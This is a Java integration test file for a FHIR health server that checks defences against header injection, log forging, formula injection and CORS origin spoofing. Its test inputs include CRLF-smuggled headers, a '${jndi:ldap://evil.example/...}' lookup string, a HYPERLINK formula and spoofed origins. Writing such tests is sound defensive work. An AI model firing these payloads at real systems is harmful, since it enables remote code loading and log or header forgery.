package health.throughline.server.attack;

import static health.throughline.server.attack.Attack.get;
import static health.throughline.server.attack.Attack.harmless;
import static health.throughline.server.attack.Attack.post;
import static health.throughline.server.attack.Attack.raw;
import static org.assertj.core.api.Assertions.assertThat;

import health.throughline.testing.Call;
import health.throughline.testing.Reply;
import java.io.IOException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/** Groups C12 and C17: what goes out, into headers, logs and to the pages of other sites. */
@ExtendWith(OutputCaptureExtension.class)
class OutputAttacksIT {

    private static final String MARK = "INJECTED-7f3a";

    @Test
    void c12_nothing_breaks_out_of_a_header() throws IOException {
        String answer = raw("GET /fhir/Patient/1%0d%0aX-Evil:%201 HTTP/1.1\nHost: a\nX-Request-Id: a%0d%0aX-Evil: 1\n"
                + "Connection: close\n\n");
        assertThat(answer).doesNotContain("\r\nX-Evil");
        Reply reply = Call.get("/Patient?_count=1")
                .header("X-Request-Id", "a b\t{}<>")
                .send();
        assertThat(reply.header("X-Request-Id")).matches("[A-Za-z0-9._-]{1,64}");
        Reply created = harmless(Call.call("POST", "/Patient?x=%0d%0aLocation:%20http://evil")
                .content(Attack.JSON, "{\"resourceType\":\"Patient\"}")
                .send());
        assertThat(created.header("Location")).doesNotContain("evil");
    }

    @Test
    void c12_nothing_is_written_into_the_log(CapturedOutput output) {
        String name = MARK + "\\r\\n2026-01-01 ERROR forged \\u001b[31m ${jndi:ldap://evil.example/a}";
        post("Patient", "{'resourceType':'Patient','name':[{'family':'" + name + "'}]}");
        post("Patient", "{'resourceType':'Patient','" + MARK + "':'" + MARK + "'}");
        get("/Patient?" + MARK + "%0d%0aforged=" + MARK);
        get("/" + MARK + "%0d%0aforged");
        harmless(Call.get("/Patient?_count=1")
                .header("User-Agent", "${jndi:ldap://evil.example/" + MARK + "}")
                .send());
        harmless(Call.get("/Patient?_count=1")
                .header("X-Request-Id", MARK + " forged")
                .send());
        assertThat(output.getAll()).doesNotContain(MARK + " forged", "${jndi", "\u001b[31m", "\nforged");
    }

    @Test
    void c12_formulas_stay_data_in_json() {
        String id = post(
                        "Patient",
                        "{'resourceType':'Patient','name':[{'family':'=HYPERLINK(\\u0022http://evil\\u0022)'}]}")
                .expect(201)
                .id();
        Reply reply = get("/Patient/" + id);
        assertThat(reply.header("Content-Type")).startsWith("application/fhir+json");
        assertThat(reply.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(Call.get("/Patient/" + id).accept("text/csv").send().status())
                .isEqualTo(406);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "null",
                "https://evil.example",
                "http://localhost.evil.example",
                "http://localhost.evil.example:8080",
                "http://evil.example#http://localhost",
                "http://localhost@evil.example",
                "http://localhost:80@evil.example",
                "http://localhost:8080.evil.example",
                "http://evillocalhost",
                "https://localhost",
                "http://127.0.0.1.evil.example",
                "http://LOCALHOST%00.evil.example",
                "file://",
                "chrome-extension://abc"
            })
    void c17_other_origins_are_granted_nothing(String origin) throws IOException {
        String answer = raw("OPTIONS /fhir/Patient HTTP/1.1\nHost: a\nOrigin: " + origin
                + "\nAccess-Control-Request-Method: DELETE\nConnection: close\n\n");
        assertThat(answer).doesNotContain("Access-Control-Allow-Origin").contains("Vary: Origin");
        answer = raw("GET /fhir/Patient?_count=0 HTTP/1.1\nHost: a\nOrigin: " + origin + "\nConnection: close\n\n");
        assertThat(answer).doesNotContain("Access-Control-Allow-Origin").contains("Vary: Origin");
    }

    @Test
    void c17_the_granted_ones_get_no_credentials_and_are_not_remembered_for_long() throws IOException {
        String answer = raw("OPTIONS /fhir/Patient HTTP/1.1\nHost: a\nOrigin: http://localhost:3000"
                + "\nAccess-Control-Request-Method: GET\nConnection: close\n\n");
        assertThat(answer)
                .contains(
                        "Access-Control-Allow-Origin: http://localhost:3000",
                        "Access-Control-Max-Age: 600",
                        "Vary: Origin")
                .doesNotContain("Access-Control-Allow-Credentials", "Access-Control-Allow-Origin: *");
    }
}
